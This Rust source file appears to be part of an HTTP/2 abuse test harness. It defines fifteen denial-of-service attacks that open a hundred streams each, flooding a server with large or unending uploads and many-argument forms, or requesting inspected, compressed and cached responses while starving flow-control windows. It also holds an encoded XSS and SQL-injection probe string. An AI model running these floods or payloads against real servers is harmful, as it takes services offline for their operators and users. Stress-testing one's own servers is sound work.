//! What can be done besides where requests and answers are inspected, compressed and kept: a hundred streams that each
//! have the server hold as much as it would for one.

use std::io;
use std::time::Duration;

use crate::http2_abuse::attacks::{Attack, Running, STREAMS, WINDOW, bears, streams};
use crate::http2_abuse::frame::{Frame, Kind, flags};
use crate::http2_abuse::hpack;
use crate::http2_abuse::peer::{Peer, get};

/// Largest frame that is sent.
const FRAME: usize = 16 * 1024;
/// Nothing comes of a connection that says nothing for so long.
const PATIENCE: Duration = Duration::from_secs(60);

/// All of them.
pub const ATTACKS: [Attack; 15] = [
    // Requests.
    bears("uploads that are inspected", |peer| uploads(peer, MULTIPART, || multipart(256 * 1024), true)),
    bears("large uploads that are inspected", |peer| uploads(peer, MULTIPART, || multipart(3 << 20), true)),
    bears("uploads that do not end", |peer| uploads(peer, MULTIPART, || multipart(120 * 1024), false)),
    bears("forms of many arguments", |peer| uploads(peer, FORM, || b"a&".repeat(990), true)),
    bears("forms of many long arguments", |peer| uploads(peer, FORM, || arguments(120 * 1024), true)),
    bears("lists of many numbers", |peer| {
        uploads(peer, "application/json", || [&b"["[..], &b"1,".repeat(990), b"1]"].concat(), true)
    }),
    bears("queries of many arguments", |peer| ask(peer, &format!("/slow?{}", "a&".repeat(990)), &[], 65_535)),
    bears("requests that are refused", |peer| {
        ask(peer, "/?q=%3Cscript%3Ealert(1)%3C/script%3E%27%20or%201=1--", &[], 0)
    }),
    // Answers.
    bears("answers that are inspected", |peer| ask(peer, "/page", &[], 0)),
    bears("answers of unknown length that are inspected", |peer| ask(peer, "/endless-page", &[], 0)),
    bears("answers in zstd", |peer| ask(peer, "/script", &[("accept-encoding", "zstd")], 0)),
    bears("answers in Brotli", |peer| ask(peer, "/script", &[("accept-encoding", "br")], 0)),
    bears("answers in gzip", |peer| ask(peer, "/script", &[("accept-encoding", "gzip")], 0)),
    bears("answers that are kept", |peer| ask(peer, "/kept", &[], 900_000)),
    // All of it.
    bears("answers that are inspected and compressed", |peer| {
        ask(peer, "/page", &[("accept-encoding", "zstd, br, gzip")], 1)
    }),
];

const MULTIPART: &str = "multipart/form-data; boundary=b";
const FORM: &str = "application/x-www-form-urlencoded";

/// A form with one file of this many bytes.
fn multipart(length: usize) -> Vec<u8> {
    let head = b"--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.txt\"\r\n\
                 Content-Type: text/plain\r\n\r\n";
    [&head[..], &vec![b'x'; length], b"\r\n--b--\r\n"].concat()
}

/// A form of this many bytes in arguments of a thousand bytes.
fn arguments(length: usize) -> Vec<u8> {
    let argument = |number: usize| format!("a{number}={}&", "b".repeat(1000));
    (0..length / 1000).flat_map(|number| argument(number).into_bytes()).collect()
}

/// A hundred requests whose windows are this large; what comes is read over.
fn ask<'p>(peer: &'p mut Peer, path: &str, more: &[(&str, &str)], window: u32) -> Running<'p> {
    let mut block = hpack::literals(get(path));
    block.extend(hpack::literals(more.iter().copied()));
    let mut first = vec![Frame::settings(&[(4, window)]), Frame::window(0, WINDOW - 65_535)];
    first.extend(streams().take(STREAMS).map(|stream| Frame::headers(stream, true, block.clone())));
    Box::pin(async move {
        let mut first = Some(first);
        peer.pour(move || first.take().unwrap_or_default()).await
    })
}

/// A hundred uploads of the same body, side by side, as fast as the server's windows allow.
fn uploads<'p>(peer: &'p mut Peer, media: &str, body: fn() -> Vec<u8>, ends: bool) -> Running<'p> {
    let fields = [
        (":method", "POST"),
        (":scheme", "https"),
        (":authority", "shop.test"),
        (":path", "/"),
        ("content-type", media),
    ];
    let head = hpack::literals(fields);
    Box::pin(async move {
        let body = body();
        let mut uploads: Vec<Upload> =
            streams().take(STREAMS).map(|stream| Upload { stream, credit: 0, sent: 0 }).collect();
        let heads: Vec<Frame> =
            uploads.iter().map(|upload| Frame::headers(upload.stream, false, head.clone())).collect();
        peer.send(&heads).await?;
        let mut credit = Credit { connection: 65_535, stream: 65_535 };
        while uploads.iter().any(|upload| upload.sent < body.len()) {
            let mut frames = Vec::new();
            for upload in &mut uploads {
                frames.extend(upload.next(&body, &mut credit, ends));
            }
            if frames.is_empty() {
                let frame = peer.polite_frame(PATIENCE).await.map_err(|()| io::ErrorKind::TimedOut)?;
                credit.take(&frame.ok_or(io::ErrorKind::UnexpectedEof)?, &mut uploads);
            } else {
                peer.send(&frames).await?;
            }
        }
        while peer.frame().await.is_some() {}
        Err(io::ErrorKind::UnexpectedEof.into())
    })
}

/// One body on its way.
struct Upload {
    stream: u32,
    /// What came beyond the first window.
    credit: u64,
    sent: usize,
}

/// What the server lets us send.
struct Credit {
    connection: u64,
    /// The first window of each stream.
    stream: u64,
}

impl Upload {
    fn next(&mut self, body: &[u8], credit: &mut Credit, ends: bool) -> Option<Frame> {
        let window = (credit.stream + self.credit).saturating_sub(self.sent as u64).min(credit.connection);
        let length = FRAME.min(body.len() - self.sent).min(usize::try_from(window).unwrap_or(usize::MAX));
        if length == 0 {
            return None;
        }
        let piece = &body[self.sent..self.sent + length];
        self.sent += length;
        credit.connection -= length as u64;
        Some(Frame::data(self.stream, ends && self.sent == body.len(), piece))
    }
}

impl Credit {
    fn take(&mut self, frame: &Frame, uploads: &mut [Upload]) {
        if frame.is(Kind::WindowUpdate) {
            let more = u64::from(frame.number(0));
            match uploads.iter_mut().find(|upload| upload.stream == frame.stream) {
                Some(upload) => upload.credit += more,
                None => self.connection += more,
            }
        } else if frame.is(Kind::Settings) && !frame.has(flags::ACK) {
            let values = (0..frame.payload.len()).step_by(6);
            let windows = values.filter(|at| frame.payload[*at..].starts_with(&[0, 4]));
            windows.for_each(|at| self.stream = u64::from(frame.number(at + 2)));
        }
    }
}
